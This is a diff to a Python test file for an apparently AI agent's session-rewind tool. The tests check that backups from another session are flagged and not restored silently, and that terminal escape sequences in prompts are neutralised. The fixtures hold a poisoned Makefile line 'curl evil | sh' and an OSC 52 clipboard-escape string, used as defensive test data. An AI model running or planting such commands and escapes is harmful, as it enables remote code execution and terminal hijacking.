@@ -2,6 +2,7 @@
 
 import json
 from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
 
@@ -12,8 +13,10 @@ from support.changed_files import Work
 from support.chat_process import AGAIN, NAME, ChatProcess
 from support.pty_chat import pty_chat
 from support.scripted_api import said, scripted_api
+from turnlog.agent.session.disk_state import is_recorded_here
 from turnlog.agent.session.file_history import FileHistory
 from turnlog.agent.session.rewind import (
+    FOREIGN,
     OUTSIDE,
     PROTECTED,
     RewindPlan,
@@ -23,6 +26,7 @@ from turnlog.agent.session.rewind import (
 )
 from turnlog.conversation.session import open_session
 from turnlog.edit.journal import Journal
+from turnlog.format.timestamps import stamp_of
 from turnlog.store.paths import Store
 
 PROMPT = "aaaaaaaa-0000-4000-8000-000000000001"
@@ -197,3 +201,59 @@ def test_enter_out_of_habit_writes_nothing_and_odd_files_are_named_first(tmp_pat
     assert not (tmp_path / ".bash_profile").exists()
     assert not (chat.work / "notes.txt").exists()
     assert (chat.work / "src" / "m8.py").read_text() == "echo PWNED\n"
+
+
+def foreign_makefile(chat: ChatProcess, prompt: str = "hello") -> Path:
+    """A Makefile as the project has it, in a session that brings both this and another one."""
+    current = "build:\n\tcc main.c\n"
+    (chat.work / "Makefile").write_text(current)
+    later = json.loads(snapshot({"Makefile": backup(COPY.replace("v1", "v2"))}))
+    later["messageId"] = later["snapshot"]["messageId"] = "later"
+    lines = (
+        snapshot({"Makefile": backup(backupTime="2026-01-01T00:00:00.000Z")}),
+        user(prompt, uuid=PROMPT),
+        assistant(text("hi")),
+        json.dumps(later).encode() + b"\n",
+    )
+    chat.session.parent.mkdir(parents=True)
+    chat.session.write_bytes(session(*lines))
+    copies = chat.store.file_history / NAME
+    copies.mkdir(parents=True)
+    (copies / COPY).write_text("build:\n\tcurl evil | sh\n")
+    (copies / COPY.replace("v1", "v2")).write_text(current)
+    return chat.work / "Makefile"
+
+
+def test_a_strangers_copy_only_replaces_a_file_by_itself(tmp_path: Path) -> None:
+    chat = ChatProcess(tmp_path, "http://127.0.0.1:9")
+    makefile = foreign_makefile(chat)
+    plan = plan_rewind(chat.store, open_session(chat.session), PROMPT, chat.work)
+    assert [(file.path, file.apart) for file in plan.files] == [(makefile, FOREIGN)]
+
+
+def test_copies_that_were_made_here_go_back_together(work: Work) -> None:
+    file = work.root / "a.txt"
+    file.write_text("before")
+    work.history.before_change(file)
+    file.write_text("after")
+    (copy,) = work.history.folder.iterdir()
+    assert is_recorded_here(copy, stamp_of(datetime.now(UTC)))
+    assert not is_recorded_here(copy, stamp_of(datetime.now(UTC) + timedelta(hours=1)))
+    assert not is_recorded_here(copy, "t")
+
+
+def test_enter_out_of_habit_keeps_a_file_and_the_prompt_is_typed_in_plainly(tmp_path: Path) -> None:
+    with scripted_api(said("ok")) as api:
+        chat = ChatProcess(tmp_path, api.url)
+        makefile = foreign_makefile(chat, "hello \u202ethere\x1b]52;c;AAAA\x07")
+        before = makefile.read_text()
+        with pty_chat(chat, *AGAIN) as person:
+            person.see("asks before changes")
+            person.type("/rewind\r")
+            person.see("Go back to before which prompt?")
+            person.type("\r")
+            person.see(FOREIGN, "❯ 1. Conversation")
+            person.type("\r")
+            person.see("hello there]52;c;AAAA")
+            assert "\u202e" not in person.screen
+    assert makefile.read_text() == before
